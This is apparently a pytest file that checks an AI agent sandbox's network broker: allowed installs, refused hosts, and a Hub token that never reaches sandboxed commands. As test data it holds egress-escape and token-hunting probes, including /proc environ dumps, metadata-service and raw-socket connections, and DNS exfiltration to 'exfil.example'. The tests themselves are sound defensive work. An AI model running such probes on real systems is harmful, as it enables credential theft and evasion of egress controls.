"""The broker from inside a real pod, asked by the clients that people use."""

import asyncio
import importlib.util
import os
import signal
import sys
from collections.abc import AsyncGenerator, Generator
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest
import uv

from ml_intern.sandbox import lock, network
from ml_intern.sandbox.broker.doors import PLACEHOLDER
from ml_intern.sandbox.broker.reach import Reach, Rule
from ml_intern.sandbox.commands import Commands, Ended
from ml_intern.sandbox.egress import Crossing, crossings, refused_during
from ml_intern.sandbox.levels import Level
from ml_intern.sandbox.paths import Root
from ml_intern.sandbox.processes import descendants
from ml_intern.sandbox.profiles import Profile
from tests.doubles.hub_server import COMMIT, LARGE, SMALL, HubDouble, hub
from tests.doubles.index_server import index
from tests.sandbox.yard import PYTHON, QUICK, Yard, make_yard

TOKEN = "hf_theRealTokenOfThePerson0123456789"
VENV = sys.prefix
SITE = str(Path(msgspec.__file__).parents[1])
HAS_HUB = importlib.util.find_spec("huggingface_hub") is not None


@dataclass
class Pod:
    """A yard whose commands have a broker."""

    yard: Yard
    commands: Commands
    reach: Reach

    async def run(self, command: str, profile: Profile = Profile.WORK, **env: str) -> tuple[Ended, str]:
        spec = self.yard.spec(command, profile=profile)
        # A cache of its own: what another test fetched is not here.
        own = {"UV_CACHE_DIR": "/tmp/uv", "PIP_NO_CACHE_DIR": "1", "HF_HOME": "/tmp/hf"}
        spec = msgspec.structs.replace(spec, env={**spec.env, **own, **network.inside(self.reach), **env})
        seen: list[bytes] = []
        ended = await self.commands.run(spec, seen.append)
        return ended, b"".join(seen).decode()

    def crossings(self) -> list[Crossing]:
        return list(crossings(self.yard.session))


@pytest.fixture(scope="module")
def index_url() -> Generator[str]:
    with index("127.0.0.2") as url:
        yield url


@pytest.fixture
def hub_double() -> Generator[HubDouble]:
    with hub(TOKEN, "127.0.0.3") as double:
        yield double


@pytest.fixture
async def pod(tmp_path: Path, machine_level: Level, index_url: str, hub_double: HubDouble) -> AsyncGenerator[Pod]:
    if machine_level < Level.FULL:
        pytest.skip(f"this machine's sandbox level is {machine_level.name}: there is no pod")
    yard = make_yard(tmp_path, Level.FULL)
    yard = Yard(yard.session, yard.workspace, yard.level, _with(yard, VENV))
    reach = network.make_reach({"PIP_INDEX_URL": index_url, "HF_ENDPOINT": hub_double.endpoint}, token=TOKEN)
    cdn = Rule("127.0.0.3", (int(hub_double.cdn.rpartition(":")[2]),), private=True)
    reach = Reach(rules=(*reach.rules, cdn), hub=reach.hub, token=reach.token)
    commands = Commands(yard.session, Level.FULL, limits=QUICK, reach=reach)
    yield Pod(yard, commands, reach)
    await commands.close()


def _with(yard: Yard, folder: str):
    return msgspec.structs.replace(yard.roots, roots=(*yard.roots.roots, Root(folder, folder, "read")))


async def test_pip_installs_through_the_broker(pod: Pod, index_url: str):
    ended, said = await pod.run(
        f"{PYTHON} -m pip --isolated install --target lib --index-url {index_url} --trusted-host 127.0.0.2 broker-probe"
        f" 2>&1 && {PYTHON} -c 'import sys; sys.path.append(\"lib\"); import broker_probe; print(broker_probe.ANSWER)'",
        PYTHONPATH=SITE,
    )
    assert (ended.exit_code, said.splitlines()[-1]) == (0, "42"), said
    assert {(one.host, one.verdict) for one in pod.crossings()} == {("127.0.0.2", "allowed")}
    assert all(one.received for one in pod.crossings())


async def test_uv_installs_through_the_broker(pod: Pod, index_url: str):
    program = uv.find_uv_bin()
    ended, said = await pod.run(
        f"{program} pip install --no-config --python {PYTHON} --target lib --default-index {index_url} broker-probe"
        f" 2>&1 && {PYTHON} -c 'import sys; sys.path.append(\"lib\"); import broker_probe; print(broker_probe.ANSWER)'"
    )
    assert (ended.exit_code, said.splitlines()[-1]) == (0, "42"), said
    assert {(one.host, one.verdict) for one in pod.crossings()} == {("127.0.0.2", "allowed")}


@pytest.mark.parametrize("client", ["pip", "uv"])
async def test_an_index_that_is_not_the_persons_is_refused_to_installers(pod: Pod, client: str):
    url = "https://evil.example/simple"
    pip = f"{PYTHON} -m pip --isolated install --retries 0 --target lib --index-url {url} broker-probe"
    uv_ = (
        f"{uv.find_uv_bin()} pip install --no-config --python {PYTHON} --target lib --default-index {url} broker-probe"
    )
    ended, said = await pod.run(f"{pip if client == 'pip' else uv_} 2>&1", PYTHONPATH=SITE, UV_HTTP_RETRIES="0")
    assert ended.exit_code, said
    assert refused_during(ended.output_path.parent) == ("evil.example is not among the hosts that commands may reach.",)


@pytest.mark.skipif(not HAS_HUB, reason="huggingface-hub is not installed")
async def test_a_gated_repository_is_downloaded_with_a_token_that_is_never_inside(pod: Pod, hub_double: HubDouble):
    (pod.yard.workspace / "fetch.py").write_text("""
import os, pathlib
from huggingface_hub import hf_hub_download, snapshot_download
print(hf_hub_download("me/gated", "config.json"))
folder = pathlib.Path(snapshot_download("me/gated"))
print(sorted((one.name, one.stat().st_size) for one in folder.iterdir()))
print(sorted(os.environ.items()))
""")
    ended, said = await pod.run(f"{PYTHON} fetch.py 2>&1", PYTHONPATH=SITE)
    assert ended.exit_code == 0, said
    assert f"/snapshots/{COMMIT}/config.json" in said
    assert f"[('config.json', {len(SMALL)}), ('model.bin', {len(LARGE)})]" in said
    assert TOKEN not in said
    assert PLACEHOLDER in said
    asked = {one.authorization for one in hub_double.heard if "/gated/" in one.path}
    assert asked == {f"Bearer {TOKEN}"}
    assert hub_double.heard_by_cdn
    assert not any(TOKEN in one.authorization for one in hub_double.heard_by_cdn)
    assert {one.verdict for one in pod.crossings()} == {"allowed"}


@pytest.mark.skipif(not HAS_HUB, reason="huggingface-hub is not installed")
async def test_an_upload_through_the_read_proxy_is_refused_and_its_sentence_reaches_the_client(
    pod: Pod, hub_double: HubDouble
):
    code = "from huggingface_hub import HfApi; HfApi().create_repo('me/new')"
    ended, said = await pod.run(f'{PYTHON} -c "{code}" 2>&1', PYTHONPATH=SITE)
    assert ended.exit_code
    assert "may change something on the Hub" in said, said
    assert not any(one.authorization for one in hub_double.heard)
    assert [one.method for one in hub_double.heard if "new" in one.path or one.method != "GET"] == []


async def test_the_hub_by_its_own_name_is_refused_to_a_token_of_ones_own_and_git_finds_the_door(
    pod: Pod, hub_double: HubDouble
):
    own = "-H 'Authorization: Bearer hf_of_somebody_else' -X POST"
    ended, said = await pod.run(f"curl -sS {own} https://huggingface.co/api/repos/create 2>&1")
    assert ended.exit_code, said
    (why,) = refused_during(ended.output_path.parent)
    assert why.startswith("huggingface.co belongs to the Hub, which is reached at $HF_ENDPOINT (http://127.0.0.1:313)")
    await pod.run("git ls-remote https://huggingface.co/me/gated 2>&1")
    assert hub_double.heard[-1].path == "/me/gated/info/refs?service=git-upload-pack"
    assert hub_double.heard[-1].authorization == f"Bearer {TOKEN}"


async def test_a_hub_that_echoes_what_it_was_sent_gives_no_token_away(pod: Pod, hub_double: HubDouble):
    _, said = await pod.run('curl -sS -H "Authorization: Bearer $HF_TOKEN" $HF_ENDPOINT/api/models/me/echo')
    assert hub_double.heard[-1].authorization == f"Bearer {TOKEN}"
    assert "Authorization: Bearer *" in said
    assert TOKEN not in said


async def test_nothing_that_a_command_can_look_at_holds_the_token(pod: Pod):
    await pod.run("curl -sS $HF_ENDPOINT/api/models/me/gated >/dev/null")
    looks = "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; ls -laR /tmp ~; cat /proc/net/unix"
    _, said = await pod.run(f"({looks}) 2>/dev/null | tr '\\0' '\\n'")
    assert TOKEN not in said
    assert PLACEHOLDER in said
    supervisor = lock.holder(str(pod.yard.session))
    assert supervisor
    for process in [supervisor, *descendants(supervisor)]:
        for name in ("cmdline", "environ"):
            assert TOKEN.encode() not in Path(f"/proc/{process}/{name}").read_bytes()
    kept = b"".join(path.read_bytes() for path in pod.yard.session.rglob("*") if path.is_file())
    assert TOKEN.encode() not in kept


WITHOUT_PROXY = {
    "a raw address": "socket.create_connection(('93.184.216.34', 443), 3)",
    "an address with IPv6": "socket.create_connection(('2606:2800:220:1::1', 443), 3)",
    "the metadata service": "socket.create_connection(('169.254.169.254', 80), 3)",
    "the host's localhost": "socket.create_connection(('127.0.0.2', INDEX), 3)",
    "a datagram": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('93.184.216.34', 53))",
    "a name": "socket.getaddrinfo('pypi.org', 443)",
    "data in a name": "socket.getaddrinfo('c2VjcmV0.exfil.example', 443)",
    "a raw packet": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "a packet of the link": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "the broker's door": "socket.socket().bind(('127.0.0.1', 312))",
    "the other door": "socket.socket().bind(('127.0.0.1', 313))",
    "the supervisor's socket": "socket.socket(socket.AF_UNIX).connect('SESSION/supervisor.sock')",
    "the egress log": "open('SESSION/egress.jsonl', 'a')",
}


async def test_no_way_leads_round_the_broker(pod: Pod, index_url: str):
    port = index_url.partition("//")[2].partition("/")[0].rpartition(":")[2]
    lines = ["import socket"]
    for name, code in WITHOUT_PROXY.items():
        attempt = code.replace("INDEX", port).replace("SESSION", str(pod.yard.session))
        lines += [
            "try:",
            f"    {attempt}",
            f"    print('ESCAPED', {name!r})",
            "except OSError as error:",
            "    print(error)",
        ]
    (pod.yard.workspace / "out.py").write_text("\n".join(lines))
    ended, said = await pod.run(f"{PYTHON} out.py 2>&1")
    assert ended.exit_code == 0, said
    assert "ESCAPED" not in said
    assert len(said.splitlines()) == len(WITHOUT_PROXY)
    assert pod.crossings() == []


@pytest.mark.parametrize("profile", [Profile.EXPLORE, Profile.EVAL])
async def test_profiles_without_a_network_have_no_broker_either(pod: Pod, profile: Profile):
    ended, said = await pod.run("curl -sS -m 5 http://127.0.0.1:312/ 2>&1", profile)
    assert (ended.exit_code, "Failed to connect" in said) == (7, True), said
    assert pod.crossings() == []


async def test_a_session_that_never_asks_has_no_broker_but_its_stem(pod: Pod):
    await pod.run("true")
    supervisor = lock.holder(str(pod.yard.session))
    assert supervisor
    lines = [Path(f"/proc/{one}/cmdline").read_bytes() for one in descendants(supervisor)]
    assert not any(b"broker.serve" in line for line in lines)
    await pod.run("curl -sS http://evil.example/")
    lines = [Path(f"/proc/{one}/cmdline").read_bytes() for one in descendants(supervisor)]
    assert sum(b"broker.serve" in line for line in lines) == 1


async def test_the_broker_ends_with_its_supervisor(pod: Pod):
    await pod.run("curl -sS http://evil.example/")
    supervisor = lock.holder(str(pod.yard.session))
    assert supervisor
    brokers = [one for one in descendants(supervisor) if b"broker.serve" in Path(f"/proc/{one}/cmdline").read_bytes()]
    os.kill(supervisor, signal.SIGKILL)
    for _ in range(200):
        if not any(Path(f"/proc/{one}/cmdline").exists() and _runs(one) for one in brokers):
            break
        await asyncio.sleep(0.02)
    else:
        pytest.fail("the broker outlived its supervisor")
    # The next command has a supervisor and a broker again, and is told what may be reached.
    _, said = await pod.run("curl -sS $HF_ENDPOINT/api/models/me/echo")
    assert "Authorization: Bearer *" in said


def _runs(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
